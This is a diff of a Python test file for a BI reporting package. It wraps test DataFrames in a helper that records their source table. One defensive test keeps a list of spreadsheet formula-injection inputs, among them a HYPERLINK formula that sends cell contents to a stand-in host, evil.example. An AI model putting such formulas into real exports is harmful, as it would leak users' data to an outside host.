@@ -13,7 +13,7 @@ from urllib.parse import unquote
 import pandas as pd
 import pytest
 
-from statex_bi import display, warehouse
+from statex_bi import display, reads, warehouse
 from statex_bi.display import Column
 from statex_bi.ingest import record_watermark
 from statex_bi.periods import Period
@@ -36,6 +36,11 @@ def shown(monkeypatch) -> list[str]:
 
 def _text(markup: str) -> str:
     return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", markup)).strip()
+
+
+def _read(frame: pd.DataFrame) -> pd.DataFrame:
+    """`frame` as a KPI function returns it: saying what it was read from (display.table refuses it otherwise)."""
+    return reads.stamp(frame, reads.Reads({"marts.orders"}))
 
 
 def test_header_of_an_empty_warehouse_says_nothing_is_loaded(db_file):
@@ -75,8 +80,9 @@ def test_table_formats_aligns_numbers_and_blanks_missing_values(shown):
     frame = pd.DataFrame(
         {"source": ["stripe", "paypal"], "rows": [1200, 3], "share": [0.25, None], "at": [pd.NaT, pd.Timestamp(0)]}
     )
-    display.table(frame, {"source": "Source", "rows": Column("Rows", "count"), "share": Column("Share", "fraction", 0),
-                          "at": Column("Day", "date")}, caption="Sources <all>")
+    display.table(_read(frame), {"source": "Source", "rows": Column("Rows", "count"),
+                                 "share": Column("Share", "fraction", 0),
+                                 "at": Column("Day", "date")}, caption="Sources <all>")
     markup = shown[-1]
     assert "<caption>Sources &lt;all&gt;</caption>" in markup
     cells = re.findall(r"<td( class=\"num\")?>([^<]*)</td>", markup)
@@ -96,7 +102,7 @@ def test_contents_and_method_notes_are_collapsed_blocks(shown):
 
 
 def test_an_empty_table_is_a_sentence(shown):
-    display.table(pd.DataFrame({"a": []}), caption="Quarantine", empty="No record is quarantined.")
+    display.table(_read(pd.DataFrame({"a": []})), caption="Quarantine", empty="No record is quarantined.")
     assert _text(shown[-1]) == "Quarantine : No record is quarantined."
     assert "<table" not in shown[-1]
 
@@ -132,7 +138,7 @@ def test_a_report_kernel_imports_no_connector_to_show_its_header():
 def test_csv_download_neutralises_formula_cells_and_says_so(shown):
     hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)", "+1+2", "-2+3", "\tcmd", "plain"]
     frame = pd.DataFrame({"name": hostile, "delta": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0]})
-    display.table(frame, {"name": "Name", "delta": Column("Delta", "count")}, caption="Tests")
+    display.table(_read(frame), {"name": "Name", "delta": Column("Delta", "count")}, caption="Tests")
     markup = shown[-1]
     href = re.search(r'href="data:text/csv;charset=utf-8,([^"]*)"', markup).group(1)
     rows = list(csv.reader(io.StringIO(unquote(href))))
